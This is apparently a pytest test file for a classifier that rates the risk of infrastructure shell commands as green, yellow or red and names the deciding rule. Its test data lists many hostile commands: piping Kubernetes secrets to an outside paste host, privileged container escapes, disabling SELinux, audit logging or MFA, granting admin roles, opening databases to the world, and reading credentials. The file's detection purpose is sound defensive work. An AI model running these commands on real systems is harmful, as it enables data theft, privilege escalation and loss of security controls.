"""Security-sensitive changes are red whatever the command's verb table says, reads that show
secrets or can block production are yellow, and the reason names the rule and the part of the
command that decided it (runbooks/risk/security.py, exposure.py). Reads about the same things stay green."""

from __future__ import annotations

import pytest

from runbooks.model import Risk
from runbooks.risk import classify

G, Y, R = Risk.green, Risk.yellow, Risk.red


@pytest.mark.parametrize(("command", "rule"), [
    ("aws iam attach-role-policy --role-name ci --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", "admin-grant"),
    ("kubectl create clusterrolebinding tmp --clusterrole=cluster-admin --user=bob@example.com", "admin-grant"),
    ("gcloud projects add-iam-policy-binding shop-prod --member=user:x@y.io --role=roles/owner", "admin-grant"),
    ("az role assignment create --assignee bob@corp.com --role Owner --scope /subscriptions/123", "admin-grant"),
    ("aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 5432 --cidr 0.0.0.0/0", "open-to-world"),
    ("gcloud compute firewall-rules create allow-all --allow=tcp:3306 --source-ranges=0.0.0.0/0", "open-to-world"),
    ("gsutil iam ch allUsers:objectViewer gs://backups-prod", "public-data"),
    ("sudo iptables -A INPUT -p tcp --dport 27017 -j ACCEPT", "firewall-open-port"),
    ("sudo setenforce 0", "security-off"),
    ("sudo systemctl disable --now auditd", "security-off"),
    ("aws cloudtrail stop-logging --name org-trail", "security-off"),
    ("sudo sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config", "auth-weakened"),
    ("redis-cli -h cache CONFIG SET protected-mode no", "auth-weakened"),
    ("amtool silence add 'alertname=~.*' --duration=1h --comment=upgrade", "silence-everything"),
    ("amtool silence add alertname=DiskFull --duration=30d --comment=later", "silence-everything"),
    ("psql -c \"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'shop'\"", "kill-all-sessions"),
    ("pg_restore --clean -d shop /backups/shop.dump", "restore-over-live"),
    ("openssl ca -config ca.cnf -revoke certs/shop.pem", "certificate-revoked"),
    ("terraform apply -auto-approve -var env=prod", "auto-approved-apply"),
    ("EXPLAIN ANALYZE DELETE FROM sessions WHERE expires < now()", "explain-analyze-dml"),
    # the second round: supply chain, host escapes, permissions, history, exfiltration
    ("sudo yum install -y --nogpgcheck ./agent.rpm", "security-off"),
    ("pip install --index-url http://mirror.internal/simple --trusted-host mirror.internal tool", "security-off"),
    ("aws cognito-idp set-user-pool-mfa-config --user-pool-id eu-1_x --mfa-configuration OFF", "security-off"),
    ("docker run --rm -it --privileged -v /:/host alpine chroot /host", "host-escape"),
    ("sudo chmod -R 777 /etc/nginx/tls", "world-writable"),
    ("git push origin +release/2.4", "history-rewritten"),
    ("git filter-branch --tree-filter 'rm -f secrets.env' HEAD", "history-rewritten"),
    ("kubectl get secrets -n shop -o json | curl -s -X POST --data-binary @- https://paste.example.net", "secret-exfiltrated"),
    ("mysql -e \"ALTER USER 'app'@'%' IDENTIFIED BY ''\"", "auth-weakened"),
    ("ufw allow 5432/tcp", "firewall-open-port"),
    ("aws rds modify-db-instance --db-instance-identifier shop --publicly-accessible", "open-to-world"),
    ("vault token create -policy=root", "admin-grant"),
    ("mysqladmin processlist | awk '{print $2}' | xargs -n1 mysqladmin kill", "kill-all-sessions"),
    ("zcat /backups/shop.sql.gz | mysql -h db-primary shop", "restore-over-live"),
    ("aws route53domains update-domain-nameservers --domain-name shop.example --nameservers Name=ns1.evil.example",
     "dns-delete"),
    # the third round: database privileges, settings that switch a control off, other tools' spellings
    ("psql -d shop -c \"GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO PUBLIC;\"", "admin-grant"),
    ("mysql -e \"GRANT ALL PRIVILEGES ON *.* TO 'etl'@'%' WITH GRANT OPTION;\"", "admin-grant"),
    ("psql -c \"ALTER ROLE reporting WITH SUPERUSER\"", "admin-grant"),
    ("ceph auth get-or-create client.backup mon 'allow *' osd 'allow *'", "admin-grant"),
    ("ansible web -i hosts -b -m user -a 'name=contractor groups=wheel append=yes'", "admin-group"),
    ("helm upgrade cache bitnami/redis --reuse-values --set auth.enabled=false", "security-off"),
    ("sudo sed -i 's/^xpack.security.enabled: true/xpack.security.enabled: false/' /etc/elasticsearch/elasticsearch.yml",
     "security-off"),
    ("mysql -e \"SET GLOBAL require_secure_transport = OFF\"", "security-off"),
    ("kcadm.sh update realms/shop -s sslRequired=NONE", "security-off"),
    ("hcloud firewall add-rule fw-db --direction in --protocol tcp --port 5432 --source-ips 0.0.0.0/0", "open-to-world"),
    ("docker run -d --net=host --cap-add=ALL vendor/agent:2", "host-escape"),
    ("gcloud sql backups restore 1718064000 --restore-instance=shop-db --backup-instance=shop-db", "restore-over-live"),
    ("for id in $(mysql -N -e \"SELECT id FROM information_schema.processlist WHERE user='app'\"); do "
     "mysql -e \"KILL $id\"; done", "kill-all-sessions"),
    ("vtysh -c 'clear ip bgp *'", "traffic-cut"),
    ("tc qdisc add dev eth0 root netem loss 100%", "traffic-cut"),
    ("psql -c \"ALTER SYSTEM SET fsync = off\"", "restore-over-live"),
    ("aws logs put-retention-policy --log-group-name /aws/rds/orders --retention-in-days 1", "restore-over-live"),
    ("doctl compute firewall add-rules 1b2c --inbound-rules protocol:tcp,ports:22,address:0.0.0.0/0", "open-to-world"),
    ("firewall-cmd --set-default-zone=trusted", "open-to-world"),
    ("ipa pwpolicy-mod --minlength=4 --maxfail=0", "auth-weakened"),
    ("gh pr merge 4412 --admin --squash", "auth-weakened"),
    ("chmod 4755 /usr/bin/python3", "admin-grant"),
    ("consul acl token create -policy-name global-management -description debug", "admin-grant"),
    ("git push origin :refs/tags/v2.14.3", "history-rewritten"),
    ("salt-key -A -y", "auth-weakened"),
    # eval14v8's misses, in general form (runbooks/risk/exposure.py)
    ("kubectl create clusterrolebinding anon --clusterrole=view --user=system:anonymous", "anonymous-access"),
    ("oci iam policy create --name c --statements '[\"Allow group Contractors to manage all-resources in tenancy\"]'",
     "admin-grant"),
    ("helm upgrade ing ingress-nginx/ingress-nginx --set 'controller.service.loadBalancerSourceRanges={0.0.0.0/0}'",
     "open-to-world"),
    ("sed -i 's/stats socket \\/run\\/haproxy\\/admin.sock/stats socket ipv4@0.0.0.0:9999/' /etc/haproxy/haproxy.cfg",
     "open-to-world"),
    ("sudo sed -i 's/scram-sha-256$/trust/' /etc/postgresql/15/main/pg_hba.conf", "auth-weakened"),
    ("sudo sed -i 's/^#auto_accept: False/auto_accept: True/' /etc/salt/master", "auth-weakened"),
    ("sudo sed -i 's/proxy_ssl_verify on/proxy_ssl_verify off/' /etc/nginx/conf.d/upstream.conf", "security-off"),
    ("aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended", "versioning-off"),
    ("az vm deallocate --ids $(az vm list -g rg-prod-web --query \"[].id\" -o tsv)", "every-listed-resource"),
    ("echo 'set server be/a state maint; set server be/b state maint; set server be/c state maint' | socat stdio "
     "/run/haproxy/admin.sock", "traffic-cut"),
    ("curl 'https://api.example.com/admin/db/reset?confirm=yes'", "app-data-wiped"),
    # eval14v9's misses, in general form
    ("sudo sed -i 's/allow-recursion { trusted; };/allow-recursion { any; };/' /etc/bind/named.conf.options", "open-to-world"),
    ("sudo sed -i 's/^http_access deny all/http_access allow all/' /etc/squid/squid.conf", "open-to-world"),
    ("sudo sed -i 's/ssl_verify_client on;/ssl_verify_client optional_no_ca;/' /etc/nginx/sites-enabled/admin.conf",
     "auth-weakened"),
    ("psql -c \"ALTER SYSTEM SET archive_command = '/bin/true';\"", "durability-off"),
    ("mc ilm rule add --expire-days 1 prod-minio/acme-db-backups", "durability-off"),
    ("sudo pcs property set no-quorum-policy=ignore", "guard-off"),
    ("ceph config set mon mon_allow_pool_delete true", "guard-off"),
    ("radosgw-admin caps add --uid=svc-reporting --caps=\"users=*;buckets=*\"", "admin-grant"),
    ("openstack role add --user contractor-ops --project checkout-prod admin", "admin-grant"),
    ("sudo chmod 644 /etc/ssl/private/shop.example.com.key", "private-key-readable"),
    ("barman recover --remote-ssh-command 'ssh postgres@pg-01' pg-prod latest /var/lib/postgresql/15/main",
     "restore-over-live"),
    ("zfs send tank/pgdata@daily | ssh db-02 sudo zfs recv -F tank/pgdata", "restore-over-live"),
    ("mongosh --eval 'cfg = rs.conf(); cfg.members = [cfg.members[0]]; rs.reconfig(cfg, {force: true})'",
     "restore-over-live"),
    ("racadm -r 10.30.0.41 -u ops -p \"$IDRAC_PW\" clrsel", "evidence-cleared"),
    ("for j in $(nomad job status -short | awk 'NR>1 {print $1}'); do nomad job stop $j; done", "every-listed-resource"),
    ("for tag in $(git tag -l 'v2023.*'); do git push origin \":refs/tags/$tag\"; done", "every-listed-resource"),
    ("cdktf deploy payments-prod --auto-approve", "auto-approved-apply"),
    ("curl -X POST http://vault:8200/v1/sys/seal -H \"X-Vault-Token: $VAULT_TOKEN\"", "secrets-sealed"),
    ("curl -X PUT http://consul:8500/v1/acl/token/$ID -d '{\"Policies\":[{\"Name\":\"global-management\"}]}'",
     "admin-grant"),
    ("sudo sysctl -w kernel.kptr_restrict=0", "security-off"),
    ("gh api -X PUT repos/acme/app/branches/main/protection -F enforce_admins=false", "review-bypassed"),
    # eval14v10's misses, in general form
    ("kubectl patch networkpolicy default-deny-ingress -n payments --type=merge -p '{\"spec\":{\"ingress\":[{}]}}'",
     "allow-all"),
    ("kubectl patch kafkatopic orders --type=merge -p '{\"spec\":{\"config\":{\"retention.ms\":60000}}}'",
     "data-expired"),
    ("clickhouse-client -q \"ALTER TABLE analytics.events ON CLUSTER main MODIFY TTL event_date + INTERVAL 1 DAY\"",
     "data-expired"),
    ("kubectl patch postgresql acid-orders --type=merge -p '{\"spec\":{\"numberOfInstances\":0}}'", "scale-to-zero"),
    ("kubectl cordon $(kubectl get nodes -o jsonpath='{.items[*].metadata.name}')", "every-listed-resource"),
    ("kubectl get csr -o name | xargs kubectl certificate approve", "every-listed-resource"),
    ("for id in $(mysql -N -e \"SELECT id FROM information_schema.processlist\"); do\n  mysql -e \"KILL $id\"\ndone",
     "every-listed-resource"),
    ("aws organizations detach-policy --policy-id p-7k2x9qzm --target-id r-a1b2", "guard-off"),
    ("kafka-configs.sh --alter --entity-type brokers --entity-default --add-config unclean.leader.election.enable=true",
     "guard-off"),
    ("clickhouse-client -q \"KILL QUERY WHERE 1\"", "kill-all-sessions"),
    ("gcloud projects set-iam-policy acme-prod /tmp/policy.json", "admin-grant"),
    ("gh api -X PATCH repos/acme/payments -f visibility=public", "public-data"),
    ("sudo sed -i 's/^#\\? *deny = .*/deny = 0/' /etc/security/faillock.conf", "auth-weakened"),
    # eval14v11's misses, in general form
    ("for n in $(kubectl get nodes -o name); do kubectl cordon $n; done", "every-listed-resource"),
    ("kubectl certificate approve $(kubectl get csr -o name)", "every-listed-resource"),
    ("kubectl create rolebinding ci-admin -n payments --clusterrole=admin --serviceaccount=ci:deployer", "admin-grant"),
    ("kubectl create token deployer -n ci --duration=8760h", "admin-grant"),
    ("argocd account update-password --account admin --current-password \"$PW\" --new-password admin", "auth-weakened"),
    ("mysql -e \"UPDATE mysql.user SET authentication_string='' WHERE user='app'\"", "auth-weakened"),
    ("kafka-configs.sh --alter --entity-type topics --entity-name ledger --add-config retention.ms=3600000",
     "data-expired"),
    ("kafka-leader-election.sh --bootstrap-server kafka:9092 --election-type unclean --topic ledger --partition 3",
     "data-expired"),
    ("gcloud logging buckets update _Default --location=global --retention-days=1", "data-expired"),
    ("aws s3 presign s3://acme-prod-backups/orders-full.dump --expires-in 604800", "open-to-world"),
    ("gcloud compute instance-groups managed resize mig-api-prod --size 0 --region europe-west1", "scale-to-zero"),
    ("kubectl patch ingress checkout --type=json -p '[{\"op\":\"remove\",\"path\":\"/spec/tls\"}]'", "security-off"),
    ("kubectl annotate ingress admin -n internal nginx.ingress.kubernetes.io/whitelist-source-range-", "open-to-world"),
])
def test_a_security_sensitive_change_is_red_and_says_which_rule(command: str, rule: str) -> None:
    found = classify(command)
    assert found.risk == R, found.reason
    assert found.reason.startswith(f"rule {rule}: `"), found.reason


@pytest.mark.parametrize("command", [
    "kubectl get secret db -n shop -o jsonpath='{.data.password}' | base64 -d",
    "vault kv get secret/shop/db",
    "aws secretsmanager get-secret-value --secret-id prod/db",
    "redis-cli -h cache KEYS '*'",
    "sudo openssl rsa -in /etc/nginx/tls/shop.key -text -noout",
    "docker exec -it api cat /run/secrets/db_password",
    "terraform output -raw db_admin_password",
    "pulumi stack output --show-secrets --stack prod",
    "psql -c \"SELECT usename, passwd FROM pg_shadow\"",
    "redis-cli -h cache CONFIG GET requirepass",
    "ceph auth get client.admin",
    "kubectl exec -n db postgres-0 -- env | grep -i pass",
    "ssh db-1 'sudo cat /etc/mysql/debian.cnf'",
    "clickhouse-client -q \"SELECT * FROM analytics.events FORMAT TSV\"",
    "bq query --use_legacy_sql=false 'SELECT * FROM `shop.analytics.events`'",
    "mongosh shop --quiet --eval 'db.events.countDocuments({})'",
    "docker inspect --format '{{json .Config.Env}}' payments-api",
    "etcdctl get /registry/secrets/payments/checkout-db",
    "az storage account keys list -g rg-data -n acmedata",
    "grep -ri 'password' /etc/app/",
    "cat ~/.kube/config",
    "redis-cli -h cache01 KEYS 'session:*'",
    "helm get values keycloak -n auth --all",
    "cqlsh -e \"SELECT * FROM ks.orders WHERE status = 'FAILED' ALLOW FILTERING;\"",
    # read URL-decoded: every series' name counted
    "curl -s 'http://prometheus:9090/api/v1/query?query=count(%7B__name__%3D~%22.%2B%22%7D)%20by%20(__name__)'",
    "sudo grep RESTIC_PASSWORD /etc/restic/prod.env",
    "sudo cat /proc/$(pgrep -o -f payments-api)/environ | tr '\\0' '\\n'",
    "terraform state pull | jq '.resources[] | select(.type==\"random_password\")'",
    "etcdctl get /registry --prefix --keys-only",
    "aws s3 ls s3://acme-prod-logs --recursive --summarize",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role",
    "psql -d orders -c \"SELECT * FROM order_events WHERE payload::text ILIKE '%timeout%'\"",
    "kubectl exec -n orders orders-api-5d8f -- cat /etc/orders/secrets/db.properties",
])
def test_showing_a_secret_or_a_blocking_read_is_yellow(command: str) -> None:
    assert classify(command).risk == Y, classify(command).reason


@pytest.mark.parametrize("command", [
    "gcloud compute firewall-rules list --filter='sourceRanges:0.0.0.0/0'",
    "aws iam list-attached-user-policies --user-name bob",
    "kubectl get secrets -n shop -o json | jq -r '.items[].metadata.name'",
    "amtool silence query",
    "psql -c \"SELECT pid, state FROM pg_stat_activity\"",
    "git push --dry-run origin +main",
    "dpkg -l | grep openssl",
    "restic -r s3:s3.amazonaws.com/backups snapshots --latest 5",
    "ufw status verbose",
    "aws iam get-account-password-policy",
    "kubectl get secrets -n payments",
    "psql -c \"SELECT count(*) FROM pg_stat_activity\"",
    "gpg --list-keys --keyid-format long",
    "gcloud iam service-accounts keys list --iam-account ci@shop.iam.gserviceaccount.com",
    "openssl rsa -in /etc/nginx/tls/shop.key -check -noout",
    "gcloud compute firewall-rules list --filter=\"sourceRanges:0.0.0.0/0 AND disabled=false\"",
    "grep -n 'NOPASSWD' /etc/sudoers /etc/sudoers.d/*",
    "terraform show -json tfplan | jq '.resource_changes[] | select(.change.actions | index(\"delete\"))'",
    "aws s3 ls s3://acme-logs/2024/06/ --recursive --summarize --human-readable",
])
def test_reads_about_the_same_things_stay_green(command: str) -> None:
    assert classify(command).risk == G, classify(command).reason


def test_reloading_an_apparmor_profile_is_routine_and_removing_it_is_not() -> None:
    assert classify("sudo apparmor_parser -r /etc/apparmor.d/usr.sbin.mysqld").risk == Y
    assert classify("sudo apparmor_parser -R /etc/apparmor.d/usr.sbin.mysqld").risk == R


@pytest.mark.parametrize(("command", "risk", "says"), [
    ("aws ssm send-command --targets Key=tag:Env,Values=prod --document-name AWS-RunShellScript "
     "--parameters 'commands=[\"sudo shutdown -h now\"]'", R, "shuts down the host"),
    ("aws ssm send-command --targets Key=tag:Role,Values=web --document-name AWS-RunShellScript "
     "--parameters commands=\"systemctl stop nginx\"", R, "on every instance with the tag at once"),
    ("aws ssm send-command --instance-ids i-0a1b --document-name AWS-RunShellScript "
     "--parameters 'commands=[\"journalctl -u app --since -10m\"]'", G, "reads logs"),
    ("gcloud compute ssh web-7 --zone europe-west1-b --command 'journalctl -u app --no-pager'", G, "reads logs"),
    ("az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'systemctl restart nginx'", Y,
     "restarts a service"),
])
def test_a_command_run_on_cloud_instances_is_judged_by_what_it_runs(command: str, risk: Risk, says: str) -> None:
    found = classify(command)
    assert found.risk == risk and says in found.reason, found.reason
